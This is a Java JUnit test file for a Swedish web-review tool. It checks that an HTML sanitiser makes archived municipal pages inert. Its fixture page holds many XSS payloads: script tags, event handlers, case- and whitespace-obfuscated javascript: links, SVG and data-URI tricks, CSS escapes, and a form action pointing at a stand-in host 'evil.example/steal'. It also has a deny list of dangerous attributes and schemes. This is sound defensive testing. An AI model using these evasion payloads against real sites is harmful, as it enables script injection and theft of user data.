package se.webbgranskning.app.snapshot;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.function.Function;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;

class SafeSnapshotHtmlTest {

    private static final String PAGE_URL = "https://www.kommun.se/a/b/sida.html";

    private static final Map<String, String> ARCHIVE = Map.of(
            "https://www.kommun.se/om-kommunen", "/granskning/7/sida/12/innehall",
            "https://www.kommun.se/bilder/logo.png", "/granskning/7/sida/13/innehall",
            "https://www.kommun.se/a/x.html", "/granskning/7/sida/14/innehall",
            "https://www.kommun.se/a/b/sida.html", "/granskning/7/sida/11/innehall",
            "https://evil.example/arkiverad", "/granskning/7/sida/15/innehall");

    private static final Function<String, Optional<String>> LOOKUP = url -> Optional.ofNullable(ARCHIVE.get(url));

    /** The only URLs a safe snapshot of {@link #HOSTILE} may contain: archived copies and inert targets. */
    private static final String ALLOWED_URLS = "/granskning/7/sida/\\d+/innehall|#innehall|#ikon"
            + "|data:image/gif;base64,R0lGODlhAQABAAAAACw=|mailto:info@kommun\\.se|tel:\\+4612345";

    private static final String HOSTILE = """
            <!DOCTYPE html>
            <html manifest="https://evil.example/app.cache">
            <head>
              <meta charset="iso-8859-1">
              <meta http-equiv="Refresh" content="0;url=https://evil.example">
              <META HTTP-EQUIV="refresh" CONTENT="5">
              <meta name="referrer" content="unsafe-url">
              <base href="https://evil.example/">
              <title>Välkommen till kommunen</title>
              <script>alert('inline')</script>
              <script src="https://evil.example/tracker.js"></script>
              <link rel="stylesheet" href="https://www.kommun.se/style.css">
              <link rel="prefetch" href="https://evil.example/next">
              <style>body { background: url(https://evil.example/bg.png) }</style>
              <style>.lead { font-weight: bold }</style>
            </head>
            <body onload="alert('load')" background="https://evil.example/bg.gif">
              <h1 ONCLICK="alert('click')">Kommunens startsida</h1>
              <p class="lead" style="color: red">Här finns information om åäö.</p>
              <p style="background-image: url(https://evil.example/x.png)">Stilad text</p>
              <p style="background: \\75 rl(https://evil.example/esc.png)">Escapad stil</p>
              <img src="https://www.kommun.se/bilder/logo.png" alt="Kommunens logotyp"
                   srcset="https://evil.example/logo-2x.png 2x" onerror="alert('img')">
              <img src="https://evil.example/pixel.gif" alt="Spårningspixel">
              <img src="relativ.png" alt="Relativ bild">
              <a href="https://www.kommun.se/om-kommunen" target="_blank"
                 ping="https://evil.example/ping">Om kommunen</a>
              <a href="https://evil.example/arkiverad">Arkiverad extern</a>
              <a href="https://www.kommun.se/finns-inte">Saknad sida</a>
              <a href="relativ.html">Relativ länk</a>
              <a href="javascript:alert('js')">Skript</a>
              <a href="  JaVaScRiPt:alert('case')">Skiftläge</a>
              <a href="jav&#x09;ascript:alert('tab')">Tabb</a>
              <a href="&#x20;&#x0a;javascript:alert('nl')">Radbrytning</a>
              <a href="data:text/html,<script>alert('data')</script>">Data</a>
              <a href="vbscript:msgbox(1)">VB</a>
              <a href="ftp://evil.example/fil">FTP</a>
              <a href="//evil.example/protokollrelativ">Protokollrelativ</a>
              <a href="#innehall">Till innehållet</a>
              <a href="mailto:info@kommun.se">info@kommun.se</a>
              <a href="tel:+4612345">012-345</a>
              <form action="https://www.kommun.se/sok" method="post">
                <input name="q" value="sök" formaction="https://evil.example/steal">
                <input type="image" src="https://evil.example/knapp.png" alt="Sök">
                <select name="s"><option>Ett</option></select>
                <textarea name="t">Text</textarea>
                <button type="submit">Sök</button>
              </form>
              <iframe src="https://evil.example/frame"></iframe>
              <object data="https://evil.example/flash.swf"><embed src="https://evil.example/e.swf"></object>
              <noscript><img src="https://evil.example/noscript.gif"></noscript>
              <template><img src="https://evil.example/t.gif"></template>
              <svg width="10" height="10">
                <script>alert('svg')</script>
                <a xlink:href="javascript:alert('xlink')"><text>SVG-länk</text></a>
                <image href="https://evil.example/svg.png"/>
                <rect fill="url(https://evil.example/p.svg#g)" width="5" height="5"/>
                <set attributeName="href" to="https://evil.example/set"/>
                <use href="#ikon"/>
                <style><img src="https://evil.example/i.png" onerror="alert('svgstyle')"></style>
                <style>@import "https://evil.example/a.css";</style>
              </svg>
              <math><mi xlink:href="javascript:alert('math')" href="https://evil.example/m">M</mi></math>
              <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="Ikon">
              <img src="data:text/html;base64,PHNjcmlwdD4=" alt="Ingen bild">
              <video src="https://evil.example/v.mp4" poster="https://evil.example/poster.jpg"></video>
              <div itemtype="https://evil.example/schema" data-src="https://evil.example/lazy.jpg">Slut</div>
              <!--[if IE]><script src="https://evil.example/ie.js"></script><![endif]-->
            </body>
            </html>
            """;

    @Test
    void nothingInAHostilePageCanRunOrReachAnotherServer() {
        Document out = Jsoup.parse(SafeSnapshotHtml.render(HOSTILE, PAGE_URL, LOOKUP), PAGE_URL);

        assertThat(out.select("script, noscript, iframe, frame, frameset, object, embed, applet, base, link,"
                + " portal, template, form, set, meta[http-equiv]")).isEmpty();
        for (Element element : out.getAllElements()) {
            for (Attribute attribute : element.attributes()) {
                String name = attribute.getKey().toLowerCase(Locale.ROOT);
                String value = attribute.getValue().replaceAll("[\\s\\x00-\\x1f]", "").toLowerCase(Locale.ROOT);
                String where = element.normalName() + " " + attribute;
                assertThat(name).as(where).doesNotStartWith("on")
                        .isNotIn("srcset", "ping", "formaction", "action", "background", "poster", "manifest",
                                "xlink:href");
                if (name.equals("target")) {
                    // only our own rewritten links, which open the archived page in the review screen
                    assertThat(element.normalName() + " " + attribute.getValue()).as(where).isEqualTo("a _top");
                    assertThat(element.attr("href")).as(where).startsWith("/granskning/");
                }
                assertThat(value).as(where).doesNotContain("evil.example", "javascript:", "vbscript:", "url(");
            }
        }
        assertThat(urlsIn(out)).allSatisfy(url -> assertThat(url).matches(ALLOWED_URLS));
        assertThat(out.select("style").stream().map(Element::data)).noneMatch(css -> css.contains("evil.example"));
        assertThat(out.outerHtml()).doesNotContain("alert(", "evil.example");
    }

    @Test
    void keepsVisibleTextAndHarmlessStyling() {
        Document out = Jsoup.parse(SafeSnapshotHtml.render(HOSTILE, PAGE_URL, LOOKUP), PAGE_URL);

        assertThat(out.title()).isEqualTo("Välkommen till kommunen");
        assertThat(out.body().text()).contains("Kommunens startsida", "Här finns information om åäö.",
                "Stilad text", "Om kommunen", "Saknad sida", "Skript", "SVG-länk", "Slut");
        assertThat(out.selectFirst("p.lead").attr("style")).isEqualTo("color: red");
        assertThat(out.select("style").stream().map(Element::data)).anyMatch(css -> css.contains(".lead"));
        assertThat(out.select("img").eachAttr("alt")).contains("Kommunens logotyp", "Spårningspixel");
        assertThat(out.selectFirst("svg use").attr("href")).isEqualTo("#ikon");
        assertThat(out.selectFirst("img[alt=Ikon]").attr("src")).startsWith("data:image/gif;");
        assertThat(out.selectFirst("img[alt=Ingen bild]").hasAttr("src")).isFalse();
    }

    @Test
    void archivedLinksOpenTheArchivedCopyAndImagesNeverLoad() {
        Document out = Jsoup.parse(SafeSnapshotHtml.render(HOSTILE, PAGE_URL, LOOKUP), PAGE_URL);

        Element about = link(out, "Om kommunen");
        assertThat(about.attr("href")).isEqualTo("/granskning/7/sida/12/innehall");
        assertThat(about.attr("target")).isEqualTo("_top");
        assertThat(about.hasClass("wg-not-archived")).isFalse();
        // the crawler archives no images: even one the lookup knows is not loaded
        assertThat(out.selectFirst("img[alt=Kommunens logotyp]").hasAttr("src")).isFalse();
        // <base href> is never emitted, but links resolve through it as the crawler resolved them
        assertThat(link(out, "Arkiverad extern").attr("href")).isEqualTo("/granskning/7/sida/15/innehall");
        assertThat(link(out, "Till innehållet").attr("href")).isEqualTo("#innehall");
        assertThat(link(out, "info@kommun.se").attr("href")).isEqualTo("mailto:info@kommun.se");
    }

    @Test
    void linksThatWereNotArchivedAreNeutralisedButStayVisible() {
        Document out = Jsoup.parse(SafeSnapshotHtml.render(HOSTILE, PAGE_URL, LOOKUP), PAGE_URL);

        for (String text : List.of("Saknad sida", "Relativ länk", "Protokollrelativ")) {
            Element link = link(out, text);
            assertThat(link.hasAttr("href")).as(text).isFalse();
            assertThat(link.hasClass("wg-not-archived")).as(text).isTrue();
            assertThat(link.attr("title")).as(text).isEqualTo("Sidan finns inte i ögonblicksbilden");
        }
        for (String text : List.of("Skript", "Skiftläge", "Tabb", "Radbrytning", "Data", "VB", "FTP")) {
            assertThat(link(out, text).hasAttr("href")).as(text).isFalse();
        }
        assertThat(out.selectFirst("img[alt=Spårningspixel]").hasAttr("src")).isFalse();
        assertThat(out.selectFirst("img[alt=Relativ bild]").hasAttr("src")).isFalse();
        assertThat(out.head().select("style").last().data()).contains(".wg-not-archived");
    }

    @Test
    void formsBecomeInertBlocksWithDisabledControls() {
        Document out = Jsoup.parse(SafeSnapshotHtml.render(HOSTILE, PAGE_URL, LOOKUP), PAGE_URL);

        assertThat(out.select("form")).isEmpty();
        Element formerForm = out.selectFirst("input[name=q]").parent();
        assertThat(formerForm.normalName()).isEqualTo("div");
        assertThat(formerForm.hasAttr("method")).isFalse();
        assertThat(out.select("input, button, select, textarea"))
                .hasSize(5)
                .allSatisfy(control -> assertThat(control.hasAttr("disabled")).as(control.toString()).isTrue());
        assertThat(out.selectFirst("input[type=image]").hasAttr("src")).isFalse();
    }

    @Test
    void headDeclaresUtf8AndNoReferrerInsteadOfThePagesOwn() {
        Document out = Jsoup.parse(SafeSnapshotHtml.render(HOSTILE, PAGE_URL, LOOKUP), PAGE_URL);

        assertThat(out.head().child(0).attr("charset")).isEqualTo("utf-8");
        assertThat(out.select("meta[charset]")).hasSize(1);
        assertThat(out.select("meta[name=referrer]")).singleElement()
                .satisfies(meta -> assertThat(meta.attr("content")).isEqualTo("no-referrer"));
    }

    @Test
    void fragmentOnAnArchivedLinkIsCarriedOver() {
        String html = "<p><a href=\"/om-kommunen#kontakt\">Kontakt</a></p>";

        Document out = Jsoup.parse(SafeSnapshotHtml.render(html, PAGE_URL, LOOKUP));

        assertThat(link(out, "Kontakt").attr("href")).isEqualTo("/granskning/7/sida/12/innehall#kontakt");
    }

    @Test
    void fragmentWithoutHeadOrHtmlBecomesACompleteDocument() {
        String html = "<p>Bara ett stycke med <a href=\"https://www.kommun.se/om-kommunen\">en länk</a>"
                + "<script>alert(1)</script></p>";

        String rendered = SafeSnapshotHtml.render(html, PAGE_URL, LOOKUP);
        Document out = Jsoup.parse(rendered);

        assertThat(rendered).startsWith("<html><head><meta charset=\"utf-8\">");
        assertThat(out.select("meta[name=referrer]")).hasSize(1);
        assertThat(out.body().text()).isEqualTo("Bara ett stycke med en länk");
        assertThat(link(out, "en länk").attr("href")).isEqualTo("/granskning/7/sida/12/innehall");
        assertThat(out.select("script")).isEmpty();
    }

    @Test
    void relativeLinksResolveAgainstThePageUrl() {
        String html = "<html><body><a href=\"../x.html\">Upp en nivå</a> <a href=\"../../b/y.html\">Saknas</a>"
                + " <a href=\"\">Samma sida</a></body></html>";

        Document out = Jsoup.parse(SafeSnapshotHtml.render(html, PAGE_URL, LOOKUP));

        assertThat(link(out, "Upp en nivå").attr("href")).isEqualTo("/granskning/7/sida/14/innehall");
        assertThat(link(out, "Saknas").hasClass("wg-not-archived")).isTrue();
        assertThat(link(out, "Samma sida").attr("href")).isEqualTo("/granskning/7/sida/11/innehall");
    }

    @Test
    void lookupMustAnswerWithAnAppLocalPath() {
        String html = "<a href=\"https://www.kommun.se/om-kommunen\">Om</a>";

        for (String bad : List.of("https://www.kommun.se/om-kommunen", "//evil.example/x", "/\\evil.example",
                "/\t/evil.example", "granskning/1")) {
            assertThatThrownBy(() -> SafeSnapshotHtml.render(html, PAGE_URL, url -> Optional.of(bad)))
                    .as(bad)
                    .isInstanceOf(IllegalArgumentException.class);
        }
    }

    @Test
    void contentSecurityPolicySandboxesWithoutScriptsAndOnlyUserClicksNavigate() {
        String csp = SafeSnapshotHtml.CONTENT_SECURITY_POLICY;

        assertThat(csp).startsWith("sandbox allow-top-navigation-by-user-activation;").contains(
                "default-src 'none'", "form-action 'none'", "base-uri 'none'", "img-src 'self' data:");
        assertThat(csp).doesNotContain("allow-scripts", "allow-same-origin", "allow-forms", "allow-popups",
                "allow-top-navigation;", "script-src", "unsafe-eval");
    }

    private static Element link(Document doc, String text) {
        return doc.select("a").stream().filter(a -> a.text().equals(text)).findFirst()
                .orElseThrow(() -> new AssertionError("no link with text " + text));
    }

    /** Every URL-valued attribute left in the page. */
    private static List<String> urlsIn(Document doc) {
        List<String> urls = new ArrayList<>();
        for (Element element : doc.getAllElements()) {
            for (String name : List.of("href", "src", "xlink:href", "action", "data", "poster", "srcset")) {
                if (element.hasAttr(name)) {
                    urls.add(element.attr(name));
                }
            }
        }
        return urls;
    }
}
